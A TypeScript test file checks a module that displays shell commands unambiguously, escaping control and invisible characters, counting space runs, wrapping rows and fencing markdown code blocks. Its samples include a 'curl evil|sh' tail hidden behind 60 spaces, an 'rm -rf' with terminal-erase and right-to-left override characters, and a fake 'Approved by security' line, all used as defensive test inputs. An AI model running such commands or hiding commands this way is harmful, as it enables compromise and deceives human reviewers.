/**
 * The shown form (src/shared/shown-text.ts) and its markdown (shown-markdown.ts): every escape, the
 * runs of spaces, the rows a layout wraps into, and a code block no command can end. Pure: no server.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { markdownCodeBlock, markdownLine } from '../../src/shared/shown-markdown.js';
import {
  shownLine,
  shownLineCut,
  shownLineRows,
  shownLines,
  shownRows,
} from '../../src/shared/shown-text.js';

/** Reads a shown text back (a test's own reader of the form, so the form is proved unambiguous). */
function readShown(shown: string): string {
  return shown.replace(
    /\\(?:x20\{(\d+)\}|x([0-9A-F]{2})|u\{([0-9A-F]+)\}|([\\ertn]))/g,
    (_, spaces: string, hex: string, code: string, named: string) => {
      if (spaces !== undefined) return ' '.repeat(Number(spaces));
      if (hex !== undefined) return String.fromCharCode(Number.parseInt(hex, 16));
      if (code !== undefined) return String.fromCodePoint(Number.parseInt(code, 16));
      return { '\\': '\\', e: '\u001b', r: '\r', t: '\t', n: '\n' }[named] as string;
    },
  );
}

describe('the shown form', () => {
  it('leaves a plain command as it is', () => {
    expect(shownLine('git push origin main && echo "done, 2 spaces:  ok"')).toBe(
      'git push origin main && echo "done, 2 spaces:  ok"',
    );
  });

  it('escapes a backslash, ESC, CR, tab and line breaks with their names, other ASCII controls as \\xHH', () => {
    expect(shownLine('a\\b \u001b[2K\rx\ty\nz\u0000\u0007\u007f')).toBe(
      'a\\\\b \\e[2K\\rx\\ty\\nz\\x00\\x07\\x7F',
    );
  });

  it('escapes what shows nothing or passes for another as \\u{H}', () => {
    const invisible = [
      '\u0085', // a C1 control (next line)
      '\u00a0', // a no-break space
      '\u00ad', // a soft hyphen
      '\u200b', // a zero-width space
      '\u200d', // a zero-width joiner
      '\u202e', // a right-to-left override
      '\u2066', // a left-to-right isolate
      '\u2028', // a line separator
      '\u2029', // a paragraph separator
      '\u3000', // an ideographic space
      '\u2800', // the braille blank
      '\u3164', // the Hangul filler
      '\ufe0f', // a variation selector
      '\ufeff', // a byte order mark
      '\ue000', // private use
      '\u{e0041}', // a tag character
      '\ud800', // a lone surrogate
    ];
    expect(invisible.map(shownLine)).toEqual([
      '\\u{85}',
      '\\u{A0}',
      '\\u{AD}',
      '\\u{200B}',
      '\\u{200D}',
      '\\u{202E}',
      '\\u{2066}',
      '\\u{2028}',
      '\\u{2029}',
      '\\u{3000}',
      '\\u{2800}',
      '\\u{3164}',
      '\\u{FE0F}',
      '\\u{FEFF}',
      '\\u{E000}',
      '\\u{E0041}',
      '\\u{D800}',
    ]);
    // What prints as itself stays: accents, other scripts, emoji, symbols.
    expect(shownLine('café Ελλάδα 日本 🙂 → …')).toBe('café Ελλάδα 日本 🙂 → …');
  });

  it('counts a run of spaces at either end, or longer than three, so none can hide a tail', () => {
    expect(shownLine(`git push origin main${' '.repeat(60)}; curl evil|sh`)).toBe(
      'git push origin main\\x20{60}; curl evil|sh',
    );
    expect(shownLine('  ls   -l ')).toBe('\\x20{2}ls   -l\\x20{1}');
    expect(shownLine('a    b')).toBe('a\\x20{4}b');
    expect(shownLine('   ')).toBe('\\x20{3}');
    expect(shownLine('')).toBe('');
  });

  it('keeps line by line a line’s indentation and counts its trailing spaces', () => {
    expect(shownLines('for f in *; do\n    echo "$f"  \ndone\n')).toEqual([
      'for f in *; do',
      '    echo "$f"\\x20{2}',
      'done',
      '',
    ]);
    expect(shownLines('a\r\nb\u2028c')).toEqual(['a\\r', 'b\\u{2028}c']);
    // Deeper than 16 spaces is counted too, as is the indentation of a line of spaces alone.
    expect(shownLines(`${' '.repeat(16)}x\n${' '.repeat(17)}y\n  `)).toEqual([
      `${' '.repeat(16)}x`,
      '\\x20{17}y',
      '\\x20{2}',
    ]);
  });

  it('reads back to the text it shows, whatever the text', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (text) => {
        expect(readShown(shownLine(text))).toBe(text);
        expect(readShown(shownLines(text).join('\n'))).toBe(text);
        // Nothing that moves a terminal's cursor or reorders a line is left.
        expect(shownLine(text)).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
      }),
    );
  });

  it('wraps in rows that end with a lone backslash, never splitting an escape or starting with a space', () => {
    expect(shownRows(`echo one two three\u001b four ${'x'.repeat(12)}`, 12)).toEqual([
      'echo one \\',
      'two thre\\',
      'e\\e four \\',
      'xxxxxxxx\\',
      'xxxx',
    ]);
    expect(shownLineRows('a\\\nbb', 20)).toEqual(['a\\\\', 'bb']);
    // A word that would be cut near a row's end is carried whole; the space before the break stays in sight.
    expect(shownRows('echo alpha beta gamma delta', 20)).toEqual(['echo alpha beta \\', 'gamma delta']);
    fc.assert(
      fc.property(
        fc.string({ unit: 'binary', maxLength: 300 }),
        fc.integer({ min: 12, max: 80 }),
        (text, width) => {
          const rows = shownRows(text, width);
          for (const row of rows) expect(row.length).toBeLessThanOrEqual(Math.max(width, 13));
          for (const row of rows.slice(1)) expect(row.startsWith(' ')).toBe(false);
          expect(
            readShown(rows.map((row, i) => (i < rows.length - 1 ? row.slice(0, -1) : row)).join('')),
          ).toBe(text);
        },
      ),
    );
  });

  it('cuts a listing’s cell at a whole escape, with …', () => {
    expect(shownLineCut('printf "\u001b]0;x\u0007"', 12)).toBe('printf "\\e]…');
    expect(shownLineCut('short', 12)).toBe('short');
  });
});

describe('the shown form in markdown', () => {
  it('fences a code block longer than any run of backticks in the command', () => {
    expect(markdownCodeBlock('echo hi', 'bash')).toBe('```bash\necho hi\n```');
    expect(markdownCodeBlock('x\n```\n# Approved by security\n````\n[ok](https://evil)', 'bash')).toBe(
      '`````bash\nx\n```\n# Approved by security\n````\n[ok](https://evil)\n`````',
    );
    expect(markdownCodeBlock('rm -rf ~/p # \u001b[2K\r\u202e', 'bash')).toBe(
      '```bash\nrm -rf ~/p # \\e[2K\\r\\u{202E}\n```',
    );
  });

  it('escapes on one line every character markdown reads as markup', () => {
    expect(markdownLine('Run `x` *now* [ok](https://evil) <b>&amp; ~~y~~ a_b | c! #1 $x \\')).toBe(
      'Run \\`x\\` \\*now\\* \\[ok\\](https://evil) \\<b\\>\\&amp; \\~\\~y\\~\\~ a\\_b \\| c\\! \\#1 \\$x \\\\\\\\',
    );
    expect(markdownLine('- item')).toBe('\\- item');
    expect(markdownLine('12. item')).toBe('12\\. item');
    expect(markdownLine('Naps for the UI')).toBe('Naps for the UI');
    expect(markdownLine(`a${' '.repeat(9)}b\nc`, 10)).toBe('a\\\\x20{9}b…');
  });
});
